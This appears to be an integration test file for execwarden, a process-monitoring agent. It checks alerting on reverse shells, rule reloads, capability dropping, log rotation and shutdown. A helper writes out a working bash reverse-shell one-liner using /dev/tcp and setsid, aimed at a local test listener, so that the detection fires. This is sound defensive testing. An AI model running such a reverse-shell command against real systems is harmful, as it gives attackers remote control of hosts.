/**
 * `execwarden run` as users run it: the built CLI in its own process, on the live proc connector,
 * with a config file (flood control left at its defaults), a file output and metrics. It must alert
 * on a setsid reverse shell, on each of five identical launches at the time of each, keep its
 * rules when a reload finds errors, take new rules on a good reload, reopen its file after a
 * rotation, and exit 0 after a drain on SIGTERM.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, statSync, unlinkSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeAsRoot } from '../support/require-root.js';
import { runShell } from '../capture/kernel-capture.js';
import { waitFor } from '../support/wait.js';
import { freePort } from '../support/helpers.js';

const ROOT = resolve(import.meta.dirname, '../..');
const SEED_RULE = '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39';
const PROBE_RULE = '6a0d7f3e-2b4c-4e8a-9f1d-3c5b7a9e0d21';

describeAsRoot('execwarden run (live, as its own process)', () => {
  let dir: string;
  let agent: ChildProcess;
  let log = '';
  let listener: Server;
  let listenerPort: number;
  let metricsPort: number;
  const alertsFile = (): string => join(dir, 'alerts.ndjson');

  const alerts = (): Record<string, unknown>[] =>
    existsSync(alertsFile())
      ? readFileSync(alertsFile(), 'utf8')
          .split('\n')
          .filter(Boolean)
          .map((line) => JSON.parse(line) as Record<string, unknown>)
      : [];
  const alertFor = (ruleId: string, marker: string) => (): Record<string, unknown> | undefined =>
    alerts().find((a) => (a.rule as { id: string }).id === ruleId && String((a.process as { command_line?: string })?.command_line).includes(marker));

  /**
   * From a shell that stays the parent (a lone `bash -c 'setsid …'` would exec setsid in place),
   * asynchronously, since the listener answering the shell lives in this process.
   */
  function reverseShell(marker: string): Promise<void> {
    const inner = `bash -i >& /dev/tcp/127.0.0.1/${listenerPort} 0>&1 #${marker}`;
    return runShell(`setsid bash -c '${inner}'; true`, '/bin/bash').then(() => undefined);
  }

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'execwarden-run-'));
    cpSync(join(ROOT, 'rules'), join(dir, 'rules'), { recursive: true });
    metricsPort = await freePort();
    writeFileSync(
      join(dir, 'config.toml'),
      `[rules]\npaths = ["${join(dir, 'rules')}"]\n[metrics]\nlisten = "127.0.0.1:${metricsPort}"\n[outputs.file]\npath = "${alertsFile()}"\n`,
    );
    // The simulated shell reads 'exit' and leaves at once: nothing stays running.
    listener = createServer((socket) => socket.end('exit\n'));
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    listenerPort = (listener.address() as AddressInfo).port;
    agent = spawn(process.execPath, [join(ROOT, 'bin/execwarden.js'), 'run', '--config', join(dir, 'config.toml')], {
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    agent.stderr!.on('data', (chunk: Buffer) => (log += chunk.toString()));
    await waitFor('start-up', () => log.includes('execwarden started') || agent.exitCode !== null, 20_000);
    if (agent.exitCode !== null) throw new Error(`agent exited at start-up: ${log}`);
  }, 30_000);

  afterAll(async () => {
    if (agent && agent.exitCode === null) agent.kill('SIGKILL');
    listener?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('logs its start-up facts', () => {
    const started = log.split('\n').map((line) => (line ? (JSON.parse(line) as Record<string, unknown>) : null)).find((e) => e?.msg && String(e.msg).startsWith('execwarden started'))!;
    expect(started.rules).toBe(readdirSync(join(ROOT, 'rules')).filter((f) => f.endsWith('.toml')).length);
    expect(started.outputs).toEqual(['file']);
    expect(started.realtime).toBe(true);
    // Held once running: what start-up alone needed (CAP_NET_ADMIN, CAP_SYS_NICE) is gone by then.
    expect(started.capabilities).toEqual(expect.arrayContaining(['CAP_SYS_PTRACE', 'CAP_DAC_READ_SEARCH']));
    expect(started.capabilities).not.toContain('CAP_NET_ADMIN');
    expect(Number(started.receiveBufferBytes)).toBeGreaterThanOrEqual(8 * 1024 * 1024);
  });

  it('alerts on a setsid reverse shell launched from a shell, into a 0600 file', async () => {
    await reverseShell('run-live-1');
    const alert = await waitFor('the seed alert', alertFor(SEED_RULE, 'run-live-1'), 10_000, () => JSON.stringify(alerts().map((a) => [a.rule, (a.process as Record<string, unknown>)?.command_line])));
    expect((alert.event as { kind: string }).kind).toBe('alert');
    expect((alert.process as { name: string }).name).toBe('setsid');
    expect(((alert.process as { parent: { name: string } }).parent).name).toBe('bash');
    expect((alert.rule as { name: string }).name).toBe('Potential Reverse Shell via Background Process');
    expect(statSync(alertsFile()).mode & 0o777).toBe(0o600);
  });

  it('alerts on each of five identical launches from fresh shells within ten seconds, at the time of each', async () => {
    const repeats = (): Record<string, unknown>[] =>
      alerts().filter((a) => (a.rule as { id: string }).id === SEED_RULE && String((a.process as { command_line?: string })?.command_line).includes('run-live-repeat'));
    const started = Date.now();
    for (let i = 1; i <= 5; i++) {
      const launched = Date.now();
      await reverseShell('run-live-repeat');
      const got = await waitFor(`alert ${i} of 5`, () => (repeats().length >= i ? repeats() : undefined), 5_000);
      expect(got).toHaveLength(i);
      // Written when it happened, not at the end of a window.
      expect(Date.now() - launched).toBeLessThan(5_000);
      expect((got[i - 1]!.execwarden as { throttle?: unknown } | undefined)?.throttle).toBeUndefined();
    }
    expect(Date.now() - started).toBeLessThan(10_000);
    const pids = new Set(repeats().map((a) => (a.process as { pid: number }).pid));
    expect(pids.size).toBe(5);
  });

  it('serves metrics with the rule match counted', async () => {
    const text = await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text();
    const match = new RegExp(`execwarden_rule_matches_total\\{rule_id="${SEED_RULE}",[^}]*\\} (\\d+)`).exec(text);
    expect(Number(match?.[1])).toBeGreaterThanOrEqual(1);
    expect(text).toMatch(/execwarden_events_lost_total\{cause="overflow"\} 0/);
    expect(text).toMatch(/execwarden_output_written_total\{output="file"\} [1-9]/);
  });

  it('keeps its rules when a reload finds a broken rule file, and still alerts', async () => {
    writeFileSync(join(dir, 'rules', 'broken.toml'), '[metadata]\ncreation_date = "2026/01/01"\n[rule]\nname = "broken"\nquery = """process where process.name == """\n');
    agent.kill('SIGHUP');
    await waitFor('the refused reload', () => log.includes('reload refused'));
    expect(log).toMatch(/broken\.toml:\d+:\d+/);
    await reverseShell('run-live-2');
    await waitFor('the seed alert after a refused reload', alertFor(SEED_RULE, 'run-live-2'));
  });

  it('drops the capabilities only start-up needs, from the JS and reader threads, and clears the ambient set', () => {
    expect(log).toContain('dropped the capabilities only start-up needs');
    const status = (tid: string) => readFileSync(`/proc/${agent.pid}/task/${tid}/status`, 'utf8');
    const mask = (text: string, line: string) => BigInt(`0x${new RegExp(`^${line}:\\s+([0-9a-f]+)`, 'm').exec(text)![1]}`);
    const tids = readdirSync(`/proc/${agent.pid}/task`);
    const reader = tids.find((tid) => readFileSync(`/proc/${agent.pid}/task/${tid}/comm`, 'utf8').trim() === 'execwarden-rd');
    expect(reader, 'the reader thread').toBeDefined();
    const NET_ADMIN = 1n << 12n;
    const SYS_NICE = 1n << 23n;
    const PTRACE = 1n << 19n;
    for (const tid of [String(agent.pid), reader!]) {
      const text = status(tid);
      expect(mask(text, 'CapEff') & (NET_ADMIN | SYS_NICE), tid).toBe(0n);
      expect(mask(text, 'CapPrm') & (NET_ADMIN | SYS_NICE), tid).toBe(0n);
      expect(mask(text, 'CapAmb'), tid).toBe(0n);
      // What it still needs to read /proc stays.
      expect(mask(text, 'CapEff') & PTRACE, tid).toBe(PTRACE);
    }
  });

  it('takes new rules on a good reload', async () => {
    unlinkSync(join(dir, 'rules', 'broken.toml'));
    const seed = readFileSync(join(ROOT, 'rules/execution_reverse_shell_via_background_process.toml'), 'utf8');
    const probe = seed
      .replace(SEED_RULE, PROBE_RULE)
      .replace('name = "Potential Reverse Shell via Background Process"', 'name = "Reload probe"')
      .replace(/query = '''[\s\S]*?'''/, `query = '''\nprocess where event.action == "exec" and process.args : "*execwarden-reload-probe*"\n'''`);
    writeFileSync(join(dir, 'rules', 'probe.toml'), probe);
    agent.kill('SIGHUP');
    const bundled = readdirSync(join(ROOT, 'rules')).filter((f) => f.endsWith('.toml')).length;
    await waitFor('the reload', () => log.includes(`rules reloaded: ${bundled + 1} rules`));
    await runShell('/bin/echo execwarden-reload-probe > /dev/null', '/bin/bash');
    await waitFor('the probe alert', alertFor(PROBE_RULE, 'execwarden-reload-probe'));
  });

  it('reopens its file after rotation (logrotate: rename, then SIGHUP)', async () => {
    renameSync(alertsFile(), `${alertsFile()}.1`);
    agent.kill('SIGHUP');
    await waitFor('the reopened file', () => existsSync(alertsFile()));
    await reverseShell('run-live-3');
    await waitFor('the seed alert in the new file', alertFor(SEED_RULE, 'run-live-3'));
    expect(readFileSync(`${alertsFile()}.1`, 'utf8')).toContain('run-live-1');
    expect(readFileSync(alertsFile(), 'utf8')).not.toContain('run-live-1');
  });

  it('drains and exits 0 on SIGTERM', async () => {
    const exited = new Promise<number | null>((r) => agent.once('exit', (code) => r(code)));
    agent.kill('SIGTERM');
    expect(await exited).toBe(0);
    expect(log).toContain('execwarden stopped');
  });
});
